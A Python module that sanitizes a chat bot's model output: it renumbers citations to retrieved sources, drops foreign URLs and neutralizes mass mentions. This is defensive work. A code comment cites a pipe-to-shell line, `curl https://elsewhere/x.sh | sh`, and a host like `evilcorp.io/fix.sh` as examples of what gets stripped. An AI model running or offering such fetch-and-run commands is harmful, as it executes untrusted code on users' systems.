"""Turn raw model output into a safe answer whose citations come from retrieval only.

The model is untrusted: it may cite numbers that do not exist, invent URLs, or
echo ``@everyone`` from a docs page. Everything it says passes through here.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from rag.models import Citation, Hit

_MARKER = re.compile(
    r"\s?\[\s*(?:(?:source|src|doc)s?\s*#?\s*)?(\d{1,3}(?:\s*[,;]\s*(?:(?:source|src|doc)s?\s*#?\s*)?\d{1,3})*)\s*\]",
    re.IGNORECASE,
)
_MD_LINK = re.compile(r"!?\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
# A bare URL: with a scheme or www., or schemeless, a host and a path (``evilcorp.io/fix.sh``, ``203.0.113.7:80/x``):
# a host name ends in a label of letters (a top-level domain, or punycode), or is an IPv4 address. Without a path a
# dotted word is prose or a file name (``e.g.``, ``v2.4``, ``milvus.yaml``, ``config.py:42``); right after a letter,
# digit, dot, path, address (``git@host:x/y``) or scheme it is part of something else, not a host of its own.
_BARE_URL = re.compile(
    r"<?(?:\b(?:https?://|www\.)[^\s<>()\[\]]+"
    r"|(?<![a-z0-9_.@/:\\-])(?:(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:[a-z]{2,63}|xn--[a-z0-9-]{1,59})"
    r"|\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?/[^\s<>()\[\]]*)>?",
    re.IGNORECASE,
)
_MASS_MENTION = re.compile(r"@(everyone|here)\b", re.IGNORECASE)
_USER_MENTION = re.compile(r"<(@[!&]?|#)(\d+)>")
_TRAILING_SOURCES = re.compile(
    r"\n+\s*(?:\*\*|__)?(?:sources|references|citations)(?:\*\*|__)?\s*:?(?:\*\*|__)?\s*\n(?:.*\n?)*\Z",
    re.IGNORECASE,
)
ZWSP = "\u200b"


def neutralize_mentions(text: str) -> str:
    """Make mass and user mentions inert even where allowed_mentions is not applied (logs, CLI, embeds)."""
    text = _MASS_MENTION.sub(lambda m: f"@{ZWSP}{m.group(1)}", text)
    return _USER_MENTION.sub(lambda m: f"<{ZWSP}{m.group(1)}{m.group(2)}>", text)


def _url_key(url: str) -> str:
    return url.strip().rstrip("/").lower()


def strip_foreign_urls(text: str, allowed: Sequence[str]) -> str:
    """Keep links to retrieved sources, reduce other markdown links to their text, drop other bare URLs.

    A source without a link (url "") allows nothing: an empty key would match ``[x](/)``.
    """
    keys = {_url_key(u) for u in allowed} | {_url_key(u.split("#", 1)[0]) for u in allowed}
    keys.discard("")
    # In code, an address on the user's own machine or network (`uri="http://localhost:19530"`,
    # `endpoint: http://minio:9000`) is configuration the user types, and is kept; any other goes as in prose
    # (`curl https://elsewhere/x.sh | sh` is no safer for being in code). A fence still open (an answer being
    # streamed) runs to the end.
    return "".join(
        _strip_urls(part, keys | _local_urls(part)) if i % 2 else _strip_urls(part, keys)
        for i, part in enumerate(_CODE.split(text))
    )


_CODE = re.compile(r"(```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`)", re.DOTALL)
_LOCAL_HOST = re.compile(
    r"(?:localhost|[a-z0-9_-]+|127(?:\.\d+){3}|0\.0\.0\.0|10(?:\.\d+){3}|192\.168(?:\.\d+){2}"
    r"|172\.(?:1[6-9]|2\d|3[01])(?:\.\d+){2}|\[::1?\]|[a-z0-9.-]+\.(?:local|internal|svc|cluster\.local))",
    re.IGNORECASE,
)


def _local_urls(code: str) -> set[str]:
    """The URLs in ``code`` whose host is loopback, private or a bare service name."""
    local = set()
    for match in _BARE_URL.finditer(code):
        url = match.group(0).strip("<>").rstrip(".,;:!?'\"")
        host = re.sub(r"^(?:https?://)?(?:[^@/]*@)?", "", url, flags=re.IGNORECASE).split("/", 1)[0]
        host = host.rsplit(":", 1)[0] if not host.endswith("]") else host
        if _LOCAL_HOST.fullmatch(host):
            local.add(_url_key(url))
    return local


def _strip_urls(text: str, keys: set[str]) -> str:

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if match.group(0).startswith("!"):
            return label
        return match.group(0) if _url_key(url) in keys else label

    text = _MD_LINK.sub(link, text)

    def bare(match: re.Match[str]) -> str:
        url = match.group(0).strip("<>").rstrip(".,;:!?'\"")
        key = _url_key(url)
        # A schemeless link to a source is kept as that source's link would be.
        return match.group(0) if key in keys or f"https://{key}" in keys or f"http://{key}" in keys else ""

    return _BARE_URL.sub(bare, text)


def source_key(hit: Hit) -> str:
    """What makes hits one source: the same URL, or for pages without a link (url ""), the same page."""
    return f"url:{hit.url}" if hit.url else f"page:{hit.page_id}"


def number_sources(hits: Sequence[Hit]) -> list[Citation]:
    """The numbered source list given to the model: one number per distinct URL (per page if it has none)."""
    citations: list[Citation] = []
    seen: set[str] = set()
    for hit in hits:
        key = source_key(hit)
        if key in seen:
            continue
        seen.add(key)
        label = f"{hit.title} › {hit.heading}" if hit.heading else hit.title
        citations.append(
            Citation(number=len(citations) + 1, title=label or hit.url or hit.page_id, url=hit.url, key=key)
        )
    return citations


def postprocess(raw: str, sources: Sequence[Citation], *, fallback_count: int = 3) -> tuple[str, list[Citation]]:
    """Clean the model's text and renumber its citations 1..n in order of first use.

    Out-of-range numbers vanish, duplicates of one URL merge, and when the model
    cited nothing the first ``fallback_count`` pages are listed as consulted.
    """
    by_number = {c.number: c for c in sources}
    text = _TRAILING_SOURCES.sub("", raw.strip())
    text = neutralize_mentions(text)
    text = strip_foreign_urls(text, [c.url for c in sources])

    renumber: dict[str | int, int] = {}  # by URL; a source without one is only ever itself
    cited: list[Citation] = []

    def marker(match: re.Match[str]) -> str:
        numbers = [int(n) for n in re.findall(r"\d+", match.group(1))]
        out: list[int] = []
        for number in numbers:
            source = by_number.get(number)
            if source is None:
                continue
            key = source.url or source.number
            if key not in renumber:
                renumber[key] = len(cited) + 1
                cited.append(Citation(number=len(cited) + 1, title=source.title, url=source.url, key=source.key))
            if renumber[key] not in out:
                out.append(renumber[key])
        lead = " " if match.group(0).startswith((" ", "\t")) and out else ""
        return lead + "".join(f"[{n}]" for n in out)

    text = _MARKER.sub(marker, text)
    text = re.sub(r"[ \t]+([.,;:!?])", r"\1", text)
    text = re.sub(r"[ \t]{2,}", " ", text)
    text = re.sub(r"\n{3,}", "\n\n", text).strip()
    if not cited:
        cited = [
            Citation(i + 1, c.title, c.url, c.key) for i, c in enumerate(_distinct_pages(sources)[:fallback_count])
        ]
    return text, cited


def _distinct_pages(sources: Sequence[Citation]) -> list[Citation]:
    """The first (best) source of each page: sources are sections, so that the model can cite one, but listed
    uncited, two sections of one page would crowd the next page out. A source without a link is a page of its own
    (``number_sources`` gives those one number per page)."""
    seen: set[object] = set()
    out: list[Citation] = []
    for source in sources:
        page: object = source.url.split("#", 1)[0] if source.url else source.number
        if page not in seen:
            seen.add(page)
            out.append(source)
    return out
